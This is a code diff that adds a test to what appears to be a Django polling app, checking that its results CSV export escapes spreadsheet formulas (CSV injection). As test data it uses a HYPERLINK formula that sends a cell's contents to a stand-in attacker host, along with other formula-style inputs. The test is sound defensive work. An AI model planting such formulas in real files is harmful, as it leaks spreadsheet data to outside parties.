@@ -414,3 +414,28 @@ def test_a_district_id_beyond_the_database_range_is_an_invalid_choice(tenant: Te
     )
     assert response.status_code == 200
     assert "districts" in response.context["form"].errors
+
+
+def test_the_results_csv_neutralises_formulas_in_question_and_option_texts(
+    tenant: Tenant,
+) -> None:
+    """A question or answer an official typed as `=HYPERLINK(...)` must reach a spreadsheet as
+    text, not as a formula (CSV injection)."""
+    poll = make_poll(tenant, results_visibility=ResultsVisibility.LIVE)
+    question = poll.questions.order_by("position").first()
+    assert question is not None
+    question.text = '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")'
+    question.save()
+    options = list(question.options.order_by("position"))
+    for option, text in zip(options, ["+park", "-2+3", "@SUM(A1:A9)"], strict=True):
+        option.text = text
+        option.save()
+    vote_as(poll, resident(tenant, serial=1))
+    rows = list(
+        csv.reader(
+            io.StringIO(client_for(tenant).get(f"/sondy/{poll.pk}/wyniki.csv").content.decode())
+        )
+    )
+    assert rows[1][0] == "'" + question.text
+    assert [row[1] for row in rows[1:4]] == ["'+park", "'-2+3", "'@SUM(A1:A9)"]
+    assert [row[2] for row in rows[1:4]] == ["1", "0", "0"]
